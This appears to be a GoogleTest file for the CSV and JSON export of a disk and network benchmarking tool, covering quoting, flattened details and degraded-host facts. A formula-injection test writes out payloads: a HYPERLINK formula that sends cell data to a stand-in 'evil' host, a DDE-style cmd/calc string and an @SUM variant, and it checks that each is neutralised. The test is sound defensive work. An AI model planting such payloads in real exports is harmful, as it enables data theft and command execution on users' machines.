#include "report/export.h"

#include <gtest/gtest.h>

#include <boost/json.hpp>
#include <sstream>

#include "report/test_runs.h"

namespace cp::report {
namespace {

// Splits RFC 4180 text into records of fields (quoted fields may hold , " CR LF).
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(field);
      field.clear();
      rows.emplace_back();
      ++i;
    } else {
      field += c;
    }
  }
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

TEST(Export, CsvField) {
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
}

TEST(Export, CsvHasOneRowPerSample) {
  RunRecord run = testing::seed_run();
  SampleRecord bad;
  bad.id = 999;
  bad.op = "read";
  bad.size = 100'000'000;
  bad.error = "short read, at 12 MB";
  run.stages[1].samples.push_back(bad);
  auto rows = parse_csv(export_csv(stored::decode(run)));
  size_t samples = 0;
  for (const auto& st : run.stages) samples += st.samples.size();
  ASSERT_EQ(rows.size(), samples + 1);
  const auto& head = rows[0];
  auto col = [&](const std::string& name) {
    auto it = std::find(head.begin(), head.end(), name);
    EXPECT_NE(it, head.end()) << name;
    return static_cast<size_t>(it - head.begin());
  };
  for (const auto& r : rows) ASSERT_EQ(r.size(), head.size());
  // Row 1: the first server disk write, 99.8 MB/s.
  EXPECT_EQ(rows[1][col("run_id")], "1");
  EXPECT_EQ(rows[1][col("layer")], "disk");
  EXPECT_EQ(rows[1][col("where")], "server");
  EXPECT_EQ(rows[1][col("op")], "write");
  EXPECT_EQ(rows[1][col("size")], "100000000");
  EXPECT_NEAR(std::stod(rows[1][col("bytes_per_s")]), 99.8e6, 1);
  EXPECT_EQ(rows[1][col("cache_possible")], "false");
  EXPECT_EQ(rows[1][col("details.direct")], "true");
  EXPECT_EQ(rows[1][col("server_max_core_pct")], "40");
  EXPECT_EQ(rows[1][col("server_top_process")], "smbd");
  // The failed sample keeps its error, comma and all.
  bool found = false;
  for (const auto& r : rows) {
    if (r[col("sample_id")] == "999") {
      found = true;
      EXPECT_EQ(r[col("error")], "short read, at 12 MB");
      EXPECT_EQ(r[col("bytes_per_s")], "0");
    }
  }
  EXPECT_TRUE(found);
  // TCP details flattened; a protocol share name with a comma and quotes survives.
  size_t tcp = 0, smb = 0;
  for (size_t i = 1; i < rows.size(); ++i) {
    if (rows[i][col("layer")] == "tcp" && !tcp) tcp = i;
    if (rows[i][col("layer")] == "smb" && !smb) smb = i;
  }
  ASSERT_GT(tcp, 0u);
  EXPECT_EQ(rows[tcp][col("details.tcp_info.rtt_us")], "310");
  EXPECT_EQ(rows[tcp][col("details.tcp_info.rwnd_limited_s")], "0");
  ASSERT_GT(smb, 0u);
  EXPECT_EQ(rows[smb][col("details.share")], "data, \"main\"");
  EXPECT_EQ(rows[smb][col("details.properties.max_read_size")], "1048576");
  // A disk row has no TCP details: empty, not missing.
  EXPECT_EQ(rows[1][col("details.tcp_info.rtt_us")], "");
}

TEST(Export, CsvFieldGuardsOnlyALeadingFormulaCharacter) {
  EXPECT_EQ(csv_field(""), "");
  EXPECT_EQ(csv_field("a=b"), "a=b");  // only a leading = starts a formula
}

// A spreadsheet runs a cell that starts with = + - @ (or TAB or CR) as a
// formula: every text cell that does, from the user or from the remote (the
// label, an error text, a process name, a driver's properties), starts with '.
// Decided: a cell that is a JSON number stays a number (-5 is written -5, so
// sums over the column still work); a text cell "-5" is text and becomes '-5.
TEST(SecurityCsvInjection, FormulaCellsAreText) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil/\",\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/\"\",\"\"x\"\")\"");
  for (const char* bad : {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"}) {
    const auto cells = parse_csv(csv_field(bad) + "\r\n");
    ASSERT_EQ(cells.size(), 1u) << bad;
    EXPECT_EQ(cells[0], std::vector<std::string>{std::string("'") + bad});
  }

  RunRecord run = testing::SeedRun(7, "=HYPERLINK(\"http://evil/?\"&A1,\"open\")")
                      .stage("smb", "ram", "read", 1'000'000, {50, 51})
                      .build();
  SampleRecord& s = run.stages[0].samples[0];
  s.error = "+cmd|' /C calc'!A0";
  s.cpu_json =
      R"({"server":{"seconds":1,"core_busy_pct":[40],"top":[{"pid":7,"comm":"@SUM(1+1)*cmd",)"
      R"("cpu_pct":38}]}})";
  // Details as the protocol stage stores them (core/messages.h TransferDetails),
  // here stalled with a (nonsense) negative silence.
  s.details_json = R"({"file":"-5","stalled":true,"silent_seconds":-0.25})";
  run.stages[0].samples[1].details_json = R"({"properties":{"note":"\t=1+1"}})";
  const auto rows = parse_csv(export_csv(stored::decode(run)));
  ASSERT_EQ(rows.size(), 3u);
  const auto& head = rows[0];
  auto col = [&](const std::string& name) {
    auto it = std::find(head.begin(), head.end(), name);
    EXPECT_NE(it, head.end()) << name;
    return static_cast<size_t>(it - head.begin());
  };
  EXPECT_EQ(rows[1][col("run_label")], "'=HYPERLINK(\"http://evil/?\"&A1,\"open\")");
  EXPECT_EQ(rows[1][col("error")], "'+cmd|' /C calc'!A0");
  EXPECT_EQ(rows[1][col("server_top_process")], "'@SUM(1+1)*cmd");
  EXPECT_EQ(rows[1][col("details.file")], "'-5");
  EXPECT_EQ(rows[2][col("details.properties.note")], "'\t=1+1");
  // Numbers stay numbers, negative ones too.
  EXPECT_EQ(rows[1][col("details.silent_seconds")], "-0.25");
  // No cell of any row starts a formula unless it is a number.
  for (const auto& r : rows) {
    for (const std::string& c : r) {
      if (c.empty() || std::string_view("=+-@\t\r").find(c[0]) == std::string_view::npos) {
        continue;
      }
      size_t used = 0;
      EXPECT_NO_THROW((void)std::stod(c, &used)) << c;
      EXPECT_EQ(used, c.size()) << c;
    }
  }
}

TEST(Export, JsonHasTheSameRowsAndWholeDetails) {
  RunRecord run = testing::seed_run();
  auto doc = boost::json::parse(export_json(stored::decode(run))).as_object();
  EXPECT_EQ(doc.at("run").at("label").as_string(), "before");
  const auto& samples = doc.at("samples").as_array();
  size_t n = 0;
  for (const auto& st : run.stages) n += st.samples.size();
  ASSERT_EQ(samples.size(), n);
  const auto& first = samples[0].as_object();
  EXPECT_EQ(first.at("sample_id").as_int64(), run.stages[0].samples[0].id);
  EXPECT_TRUE(first.at("details").as_object().at("direct").as_bool());
  EXPECT_TRUE(first.at("cpu").is_object());
  const auto& columns = doc.at("columns").as_array();
  EXPECT_EQ(columns[0].as_string(), "run_id");
}

TEST(Export, JsonNamesTheRunsDegradedFacts) {
  RunRecord run = testing::seed_run();
  run.hosts[0].facts_json =
      R"({"hostname":"nas","degraded":[{"fact":"disk_cache_bypass","method":"flagged",)"
      R"("privilege":"root: zfs set primarycache=metadata"}]})";
  auto doc = boost::json::parse(export_json(stored::decode(run))).as_object();
  const auto& d = doc.at("run").at("degraded").as_array();
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].at("role").as_string(), "server");
  EXPECT_EQ(d[0].at("fact").as_string(), "disk_cache_bypass");
  EXPECT_EQ(d[0].at("privilege").as_string(), "root: zfs set primarycache=metadata");
  EXPECT_TRUE(boost::json::parse(export_json(stored::decode(testing::seed_run())))
                  .at("run")
                  .at("degraded")
                  .as_array()
                  .empty());
}

}  // namespace
}  // namespace cp::report
